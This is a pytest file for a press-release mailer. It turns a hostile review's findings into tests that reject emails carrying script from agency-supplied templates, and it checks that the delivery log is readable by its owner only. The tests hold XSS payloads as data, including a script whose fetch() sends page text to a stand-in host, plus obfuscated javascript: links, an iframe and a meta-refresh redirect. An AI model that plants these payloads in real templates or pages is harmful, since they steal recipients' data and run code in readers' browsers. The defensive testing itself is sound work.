"""Review 24k: a hostile reviewer's findings, each a test that failed before its fix."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import ROOT
from office_cli import mailer, said

# -- 1. a template sent in with a release put a script into every email and into the preview --------

# What an agency's template (beside its release, ``template: kit``) can add to the HTML: each runs
# in the press officer's browser when `mailer preview --open` (or `mailer show --open`) opens it,
# and goes out to every journalist. Each is written as the template file holds it.
# The third value: whether the template's source shows it as written (then the message names its line).
ACTIVE = [
    ('<script>fetch("https://agency.example/?d=" + document.body.innerText)</script>', "<script>", True),
    ('<img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">', "onerror=", True),
    ('<a href="javascript:alert(1)">Read more</a>', "javascript:", True),
    ('<a href="jav&#x61;script:alert(1)">Read more</a>', "javascript:", False),
    ('<a href=" java\tscript:alert(1)">Read more</a>', "javascript:", False),
    ('<meta http-equiv="refresh" content="0;url=https://agency.example/">', '<meta http-equiv="refresh">', True),
    ('<iframe src="https://agency.example/"></iframe>', "<iframe>", True),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:", True),
    # Made by the template itself, so no tag appears in its source as written.
    ('{{ ("<scr" ~ "ipt>alert(1)</scr" ~ "ipt>") | safe }}', "<script>", False),
]


def agency_release(project: Path, extra: str) -> Path:
    """An agency's folder: its release names its own template, kit.html.j2, the built-in one with ``extra`` added."""
    folder = project / "agency"
    folder.mkdir()
    text = (ROOT / "releases" / "example.md").read_text(encoding="utf-8")
    (folder / "pitch.md").write_text(text.replace("---\n", "---\ntemplate: kit\n", 1), encoding="utf-8")
    html = (ROOT / "templates" / "release.html.j2").read_text(encoding="utf-8")
    (folder / "kit.html.j2").write_text(html.replace("</body>", f"{extra}\n</body>"), encoding="utf-8")
    for suffix in ("txt.j2", "css"):
        (folder / f"kit.{suffix}").write_text((ROOT / "templates" / f"release.{suffix}").read_text(encoding="utf-8"), encoding="utf-8")
    return folder / "pitch.md"


@pytest.mark.parametrize(("extra", "named", "as_written"), ACTIVE)
def test_a_template_cannot_put_a_script_in_the_email_or_the_preview(project: Path, extra: str, named: str, as_written: bool) -> None:
    """A release is data, not code (promise 10), and a template sent in with it is treated so (README,
    "Your own look"). Its HTML went into the email as written: `mailer preview` said "No warnings." and
    wrote pitch.html with the agency's script, which runs in the press officer's browser on --open
    (reading a journalist's fields shown with --contact, sending them to the agency) and goes out to
    every journalist. Scripts, event handlers, javascript: links, frames and redirects are refused,
    naming the template (and its line when the source holds it), before anything is written."""
    release = agency_release(project, extra)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "kit.html.j2" in result.output and named in result.output, result.output
    assert "is not allowed in an email template" in said(result), result.output
    if as_written:
        lines = (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").splitlines()
        line = next(number for number, text in enumerate(lines, 1) if extra in text)
        assert f"kit.html.j2, line {line}:" in result.output, result.output
    assert not (project / "out" / "pitch.html").exists()


def test_a_template_with_a_script_logs_and_sends_nothing(live: Path, standin: object) -> None:
    """A send refuses such a template too, before anything is logged or sent."""
    release = agency_release(live, ACTIVE[0][0])
    (live / "lists" / "beat.csv").write_text("Email,First Name\nana@daily.example,Ana\n", encoding="utf-8")
    result = mailer("send", str(release), "--list", "lists/beat.csv", "--yes", "--no-test-ok")
    assert result.exit_code == 1 and "<script> is not allowed in an email template" in said(result), result.output
    assert not standin.mail_sends  # type: ignore[attr-defined]
    assert "Campaign" not in result.output


def test_the_built_in_template_and_plain_links_are_still_fine(project: Path) -> None:
    """What an email template holds (links, pictures, styles, a mailto) is not active content."""
    release = agency_release(project, '<p><a href="mailto:press@example.org">Write</a> <a href="https://example.org/on">on</a></p>')
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 0, result.output
    assert "mailto:press@example.org" in (project / "out" / "pitch.html").read_text(encoding="utf-8")


# -- 2. the delivery log was readable by every user of the computer --------------------------------


def test_a_new_delivery_log_is_readable_by_its_owner_only(project: Path, tmp_path: Path) -> None:
    """The log holds every journalist's address, name and outlet, each open and click, and a copy of
    every email sent: on a shared computer (a university's, an agency's server) any other account
    could read it, as press-mailer made it -rw-r--r-- in a folder of its own it made drwxr-xr-x
    (~/.local/share/press-mailer, or out/ beside mailer.toml). A log press-mailer makes is now
    -rw------- (its -wal and -shm files follow it), and a folder it makes for one drwx------;
    folders that already exist are left as they are."""
    import stat

    result = mailer("suppressions", "list")  # no mailer.toml: the log in the user data folder
    assert result.exit_code == 0, result.output
    folder = tmp_path / "user-data" / "press-mailer"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "mailer.db").stat().st_mode) == 0o600
    (project / "mailer.toml").write_text('[sender]\npostal_address = "1 Hive Road"\n', encoding="utf-8")
    result = mailer("send", "releases/example.md", "--list", "lists/press.csv", "--dry-run")  # the log beside mailer.toml
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((project / "out").stat().st_mode) == 0o700
    written = [path for path in (project / "out").iterdir() if path.name.startswith("mailer.db")]
    assert written and all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in written), written
